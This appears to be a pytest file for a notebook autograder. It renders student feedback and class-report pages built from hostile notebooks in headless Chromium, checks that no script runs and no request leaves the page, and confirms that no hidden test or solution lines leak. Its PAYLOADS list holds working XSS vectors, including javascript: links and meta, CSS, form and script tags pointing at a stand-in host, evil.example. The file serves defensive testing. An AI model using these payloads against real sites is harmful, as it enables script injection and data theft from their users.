"""Pages of hostile notebooks in real Chromium: nothing runs; and no page holds a hidden line."""

from __future__ import annotations

import html
import json
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from autograder import labs
from autograder.answers import FOLDER, load
from autograder.collect import Handin
from autograder.completion import Notebook, completed, released, save, with_cell
from autograder.grader import Grader
from autograder.labs import Lab, source_of
from autograder.report.class_report import write_report
from autograder.report.feedback import write_feedback
from autograder.report.handins import keep_notebooks, kept_notebook
from autograder.report.marks import Marks
from autograder.results import ResultsFile, SubmissionResult
from autograder.sample_class import sample_class

LAB = labs.find("lab01")
NAME = "<script>alert('name')</script><img src=x onerror=alert('name')>\"'"
PAYLOADS = [
    "<script>alert(1)</script>",
    "<script src=https://evil.example/x.js></script>",
    "<img src=https://evil.example/pixel.png onerror=alert(2)>",
    "</pre></details></div><svg onload=alert(3)><animate onbegin=alert(4) attributeName=x dur=1s>",
    "</style></title></textarea><body onload=alert(5) onpageshow=alert(6)>",
    "<iframe srcdoc='<script>parent.alert(7)</script>' src=javascript:alert(8)></iframe>",
    "<details open ontoggle=alert(9)><summary onclick=alert(10)>x</summary></details>",
    "<a href='javascript:alert(11)' id=bait autofocus onfocus=alert(12)>click me</a>",
    "[click me](javascript:alert(13)) ![x](https://evil.example/pixel.png)",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css><base href=https://evil.example/>",
    "<style>@import url(https://evil.example/x.css); * {background: url(//evil.example/y)}</style>",
    "<form action=https://evil.example/><button id=go>x</button></form>",
    "<object data=https://evil.example/x></object><embed src=https://evil.example/x>",
    "{{ ''.__class__ }}{% for x in y %}{% endfor %}<!-- ]]>",
    "\x1b[31m\x00\u202e\u2028<script>alert(14)</script>",
]


@dataclass
class Noticed:
    """What a page tried to do."""

    dialogs: list[str] = field(default_factory=list)
    requests: list[str] = field(default_factory=list)
    console: list[str] = field(default_factory=list)


@pytest.fixture
def visit(browser: Any) -> Iterator[Callable[..., tuple[Any, Noticed]]]:
    """``visit(path, width=375)``: the page, opened, and what it does from then on."""
    contexts = []

    def open_page(path: Path, width: int = 1280) -> tuple[Any, Noticed]:
        noticed = Noticed()
        contexts.append(browser.new_context(viewport={"width": width, "height": 900}))
        page = contexts[-1].new_page()

        def dismiss(dialog: Any) -> None:
            noticed.dialogs.append(dialog.message)
            dialog.dismiss()

        page.on("dialog", dismiss)
        page.on("request", lambda request: noticed.requests.append(request.url))
        page.on("console", lambda message: noticed.console.append(message.text))
        page.on("pageerror", lambda error: noticed.console.append(str(error)))
        page.goto(path.as_uri())
        return page, noticed

    yield open_page
    for context in contexts:
        context.close()


@dataclass(frozen=True)
class Class:
    """A class of one lab that was graded for real, with its pages in `out`."""

    lab: Lab
    out: Path
    results: list[SubmissionResult]

    def page(self, student: str) -> Path:
        return self.out / "feedback" / student / f"{self.lab.name}.html"


def graded_class(lab: Lab, notebooks: dict[str, Notebook | str], out: Path) -> Class:
    """Grade a class and write its pages, as `grade --out` does."""
    handins, results = [], ResultsFile(out / "results.jsonl")
    grader = Grader(lab, bytes(32), "bubblewrap")
    for student, notebook in notebooks.items():
        path = out.with_name("handed_in") / f"{student}.ipynb"
        save(notebook, path) if isinstance(notebook, dict) else path.write_text(notebook)
        handins.append(Handin(student, path))
    out.mkdir()
    for handin in handins:
        results.append(grader.grade(handin.student, handin.path))
    grader.close()
    keep_notebooks(lab, handins, results.latest(), out)
    for result in results.latest():
        notebook = kept_notebook(result, out)
        write_feedback(
            result, out / "feedback", notebook, Marks(NAME, comments={"sgd_epoch": NAME})
        )
    return Class(lab, out, results.latest())


def hostile_notebook(*, raises: bool) -> Notebook:
    """Payloads in every place that a notebook has, and in what its functions raise."""
    words = json.dumps("".join(PAYLOADS))
    body = f"raise ValueError({words})" if raises else f"return type({words}, (), {{}})()"
    functions = {task: f"def {task}(*a, **k):\n    {body}\n" for task in LAB.code_tasks()}
    functions |= {task.name: PAYLOADS[0] for task in LAB.tasks if task.kind == "written"}
    notebook = with_cell(completed(LAB, functions), f"raise KeyError({words})", before="setup")
    for payload in PAYLOADS:
        output = {"output_type": "display_data", "metadata": {}, "data": {"text/html": payload}}
        for kind in ("code", "markdown", "raw", payload):
            cell = {"cell_type": kind, "id": payload, "source": payload, "outputs": [output]}
            marks = {"nbgrader": {"grade_id": payload, "solution": True}, payload: payload}
            notebook["cells"].append(cell | {"metadata": marks})
    notebook["metadata"] = {"title": PAYLOADS[0], "kernelspec": {"display_name": PAYLOADS[0]}}
    return notebook


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Class:
    """Two hostile notebooks and an honest one."""
    notebooks: dict[str, Notebook | str] = {
        "raises": hostile_notebook(raises=True),
        "returns": hostile_notebook(raises=False),
        "honest": completed(LAB),
    }
    return graded_class(LAB, notebooks, tmp_path_factory.mktemp("hostile") / "results")


def try_everything(page: Any) -> None:
    """Open what is folded, click what can be clicked, and give it time."""
    page.evaluate("document.querySelectorAll('details').forEach(d => d.open = true)")
    for selector in ("summary", "a", "button", "#bait", ".cell", ".comment"):
        for element in page.query_selector_all(selector)[:5]:
            element.click(force=True)
    page.wait_for_timeout(300)


@pytest.mark.parametrize("student", ["raises", "returns"])
def test_hostile_notebook_runs_nothing_on_its_page(
    hostile: Class, visit: Callable[..., tuple[Any, Noticed]], student: str
) -> None:
    page, noticed = visit(hostile.page(student))
    try_everything(page)
    assert noticed == Noticed(requests=[hostile.page(student).as_uri()])
    assert page.evaluate("document.scripts.length") == 0
    foreign = "script, img, svg, iframe, object, embed, form, a, link, base, button, body [style]"
    assert page.query_selector_all(foreign) == []
    assert len(page.query_selector_all("style")) == 1
    handlers = "[...document.all].flatMap(e => e.getAttributeNames().filter(n => /^on/.test(n)))"
    assert page.evaluate(handlers) == []
    shown = page.text_content("body")
    assert NAME in shown
    assert all(payload in shown for payload in PAYLOADS[:-1])


def test_hostile_class_runs_nothing_in_the_report(
    hostile: Class, visit: Callable[..., tuple[Any, Noticed]]
) -> None:
    path = write_report(hostile.out)
    page, noticed = visit(path)
    try_everything(page)
    assert noticed == Noticed(requests=[path.as_uri()])
    assert page.query_selector_all("script, img, iframe, object, form, a, foreignObject") == []
    assert PAYLOADS[0] in page.text_content("body")


def test_browser_would_notice_all_of_it(
    tmp_path: Path, visit: Callable[..., tuple[Any, Noticed]]
) -> None:
    path = tmp_path / "naive.html"
    path.write_text(f"<body><script>alert(0)</script>{PAYLOADS[1]}{PAYLOADS[2]}{PAYLOADS[6]}")
    page, noticed = visit(path)
    try_everything(page)
    assert {"0", "2", "9", "10"} <= set(noticed.dialogs)
    assert "https://evil.example/x.js" in noticed.requests
    assert noticed.console


def test_policy_alone_would_stop_scripts_and_requests(
    hostile: Class, tmp_path: Path, visit: Callable[..., tuple[Any, Noticed]]
) -> None:
    words = hostile.page("honest").read_text(encoding="utf-8")
    path = tmp_path / "unescaped.html"
    path.write_text(words.replace("<h1>", "".join(p for p in PAYLOADS if "meta" not in p) + "<h1>"))
    page, noticed = visit(path)
    page.wait_for_timeout(300)
    assert noticed.dialogs == []
    assert not [url for url in noticed.requests if url != path.as_uri() and "evil" not in url]
    assert any("Content Security Policy" in line for line in noticed.console)


@pytest.mark.parametrize("width", [375, 1280])
def test_pages_fit_the_width(
    hostile: Class, visit: Callable[..., tuple[Any, Noticed]], width: int
) -> None:
    for path in (hostile.page("raises"), hostile.page("honest"), write_report(hostile.out)):
        page, _ = visit(path, width)
        page.evaluate("document.querySelectorAll('details').forEach(d => d.open = true)")
        assert page.evaluate("document.documentElement.scrollWidth") <= width


# What no page may hold


def lines_of(text: str) -> set[str]:
    """The lines that are long enough to give something away, whatever their layout."""
    lines = (" ".join(line.split()) for line in text.splitlines())
    return {line for line in lines if len(line) > 20}


def secret_lines(lab: Lab) -> set[str]:
    """Every line of the hidden tests, of the answers' files and of the reference solutions."""
    number = lab.name.partition("_")[0]
    files = [lab.hidden_tests, *FOLDER.glob(f"{number}*.py")]
    lines = {line for path in files for line in lines_of(path.read_text(encoding="utf-8"))}
    cells = json.loads(lab.path.read_text(encoding="utf-8"))["cells"]
    return lines.union(*(lines_of(source_of(cell)) for cell in cells))


def words_of(notebook: Notebook | str) -> str:
    cells = notebook["cells"] if isinstance(notebook, dict) else []
    return " ".join(" ".join(map(source_of, cells)).split())


def leaks(graded: Class, notebooks: dict[str, Notebook | str]) -> dict[str, list[str]]:
    """What each student's page holds of the hidden lines, and of what the tests found out.

    What the student wrote, or was handed out, is no leak.
    """
    given, hidden = words_of(released(graded.lab)), secret_lines(graded.lab)
    found = {}
    for result in graded.results:
        text = html.unescape(re.sub(r"<[^>]*>", " ", graded.page(result.student).read_text()))
        shown, own = " ".join(text.split()), given + words_of(notebooks[result.student])
        tests = [test for task in result.tasks for test in task.tests]
        details = {test.detail for test in tests if len(test.detail) > 12}
        names = {test.name for test in tests if re.search(r"[_\[]", test.name)}
        candidates = (line for line in hidden | details | names if line not in own)
        found[result.student] = sorted(line for line in candidates if line in shown)
    return found


def test_no_page_of_the_sample_class_holds_a_hidden_line(tmp_path: Path) -> None:
    notebooks = dict(sample_class(LAB))
    del notebooks["endless_loop"]  # takes long, and fails in one test alone
    graded = graded_class(LAB, notebooks, tmp_path / "results")
    assert len(secret_lines(LAB)) > 1000
    assert leaks(graded, notebooks) == {student: [] for student in sorted(notebooks)}


@pytest.mark.slow
@pytest.mark.parametrize("name", labs.all_labs())
def test_no_page_of_a_class_full_of_mistakes_holds_a_hidden_line(name: str, tmp_path: Path) -> None:
    lab = labs.find(name)
    notebooks: dict[str, Notebook | str] = {"blank": released(lab)}
    for which in range(4):
        mistakes: dict[str, list[str]] = {}
        for answer in load(lab.name):
            if answer.kind == "mistake":
                mistakes.setdefault(answer.task, []).append(answer.source)
        chosen = {task: sources[which % len(sources)] for task, sources in mistakes.items()}
        notebooks[f"mistaken{which}"] = completed(lab, chosen)
    graded = graded_class(lab, notebooks, tmp_path / "results")
    assert leaks(graded, notebooks) == {student: [] for student in sorted(notebooks)}
